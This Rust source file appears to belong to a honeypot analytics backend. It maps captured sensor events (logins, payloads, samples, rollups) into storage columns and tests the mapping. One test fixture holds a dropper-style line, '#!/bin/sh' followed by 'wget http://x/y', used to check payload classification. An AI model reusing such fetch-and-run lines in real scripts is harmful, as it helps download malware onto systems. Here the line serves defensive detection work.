//! How an event is stored, whatever the backend: its common fields as columns and its detail as
//! a JSON object of flat key/value fields ([`Detail::to_fields`]), with the fields every report
//! needs lifted into columns: `username`, `password`, `payload_sha256` (payloads and samples),
//! `url`.
//!
//! `count` is 1 for ordinary events, the number of connections for rollup events (so
//! `SUM(count)` counts connections) and the number of events evicted for an eviction gap; `session_id` lets reports count each session once. This is
//! the contract between ingest (which writes) and analytics, the dashboard and exports (which
//! read); a backend that bulk-loads (COPY) writes exactly these values.

use drosera_uplink::event::{Detail, Event, Secret};

/// The kind stored for an HTTP login form's body: the sensor records it as a payload, but it is
/// not a captured file, so it is kept (and exported) under its own kind and never listed or
/// counted as a payload.
pub const FORM_BODY_KIND: &str = "form_body";

/// True for a payload that is an HTTP `application/x-www-form-urlencoded` body (a login form's
/// POST): the whole body is in the prefix and it is nothing but `key=value&...` in the
/// URL-encoded alphabet. (The sensor keeps real uploads as samples as well; a form is never one.)
pub fn is_form_body(ev: &Event) -> bool {
    let Detail::Payload { prefix, size, truncated, .. } = &ev.detail else { return false };
    ev.protocol == drosera_uplink::Protocol::Http
        && !*truncated
        && !prefix.is_empty()
        && *size == prefix.len() as u64
        && prefix.contains(&b'=')
        && prefix.iter().all(|b| b.is_ascii_alphanumeric() || b"%+&=._-*~".contains(b))
}

/// The lifted columns of one event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Lifted {
    /// The `kind` column: [`Detail::kind`], except [`FORM_BODY_KIND`] (see [`is_form_body`]).
    pub kind: &'static str,
    pub count: i64,
    pub username: Option<String>,
    pub password: Option<String>,
    pub payload_sha256: Option<String>,
    pub url: Option<String>,
    /// [`fields_json`] of the detail.
    pub fields: String,
    /// What the exploit rules derived from it (JSON of [`crate::exploits::Derived`]), if
    /// anything.
    pub derived: Option<String>,
    /// An HTTP body's first bytes as text, kept so `reclassify` can read them again.
    pub body_text: Option<String>,
}

impl Lifted {
    /// The columns of `ev`, with the exploit rules the process installed
    /// ([`crate::exploits::active`]).
    pub fn of(ev: &Event) -> Lifted {
        Lifted::with(crate::exploits::active(), ev)
    }

    /// The columns of `ev`, derived with `rules`.
    pub fn with(rules: &crate::exploits::Matcher, ev: &Event) -> Lifted {
        let kind = if is_form_body(ev) { FORM_BODY_KIND } else { ev.detail.kind() };
        let pairs = ev.detail.to_fields();
        let body_text = rules.body_text(ev);
        let derived = rules
            .derive(ev.protocol.as_str(), kind, &crate::exploits::borrow_pairs(&pairs), body_text.as_deref())
            .to_column();
        let mut l = Lifted {
            kind,
            count: 1,
            username: None,
            password: None,
            payload_sha256: None,
            url: None,
            fields: fields_json(pairs),
            derived,
            body_text,
        };
        match &ev.detail {
            Detail::Login { username: u, secret, .. } => {
                l.username = Some(u.clone());
                l.password = match secret {
                    Secret::Password(p) => Some(p.clone()),
                    Secret::Hash { value, .. } => Some(value.clone()),
                    Secret::PublicKey { fingerprint, .. } => Some(fingerprint.clone()),
                    Secret::None => None,
                };
            }
            Detail::Payload { sha256, .. } if l.kind == "payload" => l.payload_sha256 = Some(hex::encode(sha256)),
            // A sample's hash goes in the same column, so every export carries it per event
            // (item lists select `kind = 'payload'` and are not affected).
            Detail::Sample { sha256, .. } => l.payload_sha256 = Some(hex::encode(sha256)),
            Detail::DownloadOffered { url: u, .. } => l.url = Some(u.clone()),
            Detail::Rollup { connections, .. } => l.count = (*connections).min(i64::MAX as u64) as i64,
            // A gap stands for the events it evicted.
            Detail::EvictionGap { count, .. } | Detail::EvictionSummary { count, .. } => {
                l.count = (*count).min(i64::MAX as u64) as i64
            }
            _ => {}
        }
        l
    }
}

/// The detail's flat fields as a JSON object of strings, keys sorted (the last of a repeated key
/// wins), written straight into one string: this runs once per ingested event.
pub fn fields_json(mut pairs: Vec<(String, String)>) -> String {
    pairs.sort_by(|a, b| a.0.cmp(&b.0));
    let mut out = Vec::with_capacity(16 + pairs.iter().map(|(k, v)| k.len() + v.len() + 6).sum::<usize>());
    out.push(b'{');
    for (i, (k, v)) in pairs.iter().enumerate() {
        if pairs.get(i + 1).is_some_and(|next| next.0 == *k) {
            continue;
        }
        if out.len() > 1 {
            out.push(b',');
        }
        // Writing a &str into a Vec cannot fail.
        let _ = serde_json::to_writer(&mut out, k);
        out.push(b':');
        let _ = serde_json::to_writer(&mut out, v);
    }
    out.push(b'}');
    String::from_utf8(out).unwrap_or_else(|_| "{}".into())
}

/// What the events newly stored from one batch add to their sensor's row.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Tally {
    /// Events the sensor evicted unsent (eviction gap records).
    pub evicted: i64,
    /// Connections the sensor shed (rollup records).
    pub shed: i64,
    /// The last health sample, as JSON of [`drosera_uplink::event::Health`].
    pub health: Option<String>,
}

impl Tally {
    pub fn add(&mut self, ev: &Event) {
        match &ev.detail {
            Detail::EvictionGap { count, .. } | Detail::EvictionSummary { count, .. } => {
                self.evicted = self.evicted.saturating_add(*count as i64)
            }
            Detail::Rollup { connections, .. } => self.shed = self.shed.saturating_add(*connections as i64),
            Detail::Health(h) => self.health = serde_json::to_string(h).ok(),
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_login_forms_body_is_no_payload() {
        let payload = |proto, body: &[u8], truncated| Event {
            protocol: proto,
            ..Event::internal(Detail::Payload {
                sha256: [0; 32],
                size: body.len() as u64,
                name: "/login.cgi".into(),
                prefix: body.to_vec(),
                truncated,
            })
        };
        use drosera_uplink::Protocol::{Ftp, Http};
        let form = b"username=root&password=p%40ss+word";
        assert_eq!(Lifted::of(&payload(Http, form, false)).kind, FORM_BODY_KIND);
        assert_eq!(Lifted::of(&payload(Http, form, false)).payload_sha256, None);
        for (proto, body, cut) in [
            (Http, &b"#!/bin/sh\nwget http://x/y"[..], false),
            (Http, &b"a=1&b=2"[..], true),
            (Ftp, &form[..], false),
            (Http, &b"{\"a\": 1}"[..], false),
        ] {
            let l = Lifted::of(&payload(proto, body, cut));
            assert_eq!(l.kind, "payload", "{proto:?} {body:?}");
            assert!(l.payload_sha256.is_some());
        }
    }

    #[test]
    fn fields_json_matches_a_serde_json_object() {
        let pairs = vec![
            ("path".to_string(), "/a\"b\\c\n\u{7f}\u{1}é".to_string()),
            ("dup".to_string(), "first".to_string()),
            ("agent".to_string(), String::new()),
            ("dup".to_string(), "last".to_string()),
        ];
        // The reference: keys sorted, the last of a repeated key wins. Built through a BTreeMap
        // so it is sorted whether or not serde_json keeps insertion order (yara-x turns on its
        // `preserve_order` feature for the whole admin).
        let sorted: std::collections::BTreeMap<String, String> = pairs.clone().into_iter().collect();
        let mut m = serde_json::Map::new();
        for (k, v) in sorted {
            m.insert(k, serde_json::Value::String(v));
        }
        assert_eq!(fields_json(pairs), serde_json::Value::Object(m).to_string());
        assert_eq!(fields_json(vec![]), "{}");
    }
}
